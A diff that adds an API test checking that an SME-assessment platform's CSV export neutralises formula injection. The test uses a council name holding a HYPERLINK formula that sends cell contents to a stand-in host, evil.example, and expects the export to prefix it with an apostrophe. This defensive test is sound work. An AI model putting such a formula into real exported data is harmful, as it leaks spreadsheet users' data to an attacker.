@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -218,3 +220,26 @@ async def test_bad_query_input_is_422_naming_the_field(client: httpx.AsyncClient
     p = problem(await client.get(f"{API}/instruments/9", headers=h), 422)
     assert p["errors"][0]["field"] == "instrument_version"
     problem(await client.get(f"{API}/cluster-map"), 401)
+
+
+async def test_a_csv_download_writes_typed_in_formulas_as_text(client: httpx.AsyncClient, tok: TokenFactory) -> None:
+    """A council is whatever its SME typed; a spreadsheet must not run it (OWASP CSV injection). The
+    platform's own numbers, negative ones too, stay numbers."""
+    admin = {"Authorization": tok("coordinator", "region_admin")}
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Cork")'
+    weak = (await client.post(f"{API}/smes", json=sme(councils=[formula]), headers=admin)).json()["id"]
+    strong = (await client.post(f"{API}/smes", json=sme(legal_name="Strong Ltd"), headers=admin)).json()["id"]
+    for sid, value in ((weak, 1), (strong, 5)):
+        r = await client.post(
+            f"{API}/smes/{sid}/assessments", json={"instrument_version": "1", "answers": answers(value)}, headers=admin
+        )
+        assert r.status_code == 201, r.text
+    await until(client, admin, lambda cs: sum(c["assessed_smes"] for c in cs) == 2)
+    r = await client.get(f"{API}/spotlight", params={"council": formula, "format": "csv"}, headers=admin)
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert rows[0][:4] == ["region", "council", "dimension", "mean_maturity"] and len(rows) > 1
+    gap = rows[0].index("gap_to_network")
+    for row in rows[1:]:
+        assert row[1] == "'" + formula, row
+        assert row[gap].startswith("-") and float(row[gap]) < 0, row  # the platform's number, as written
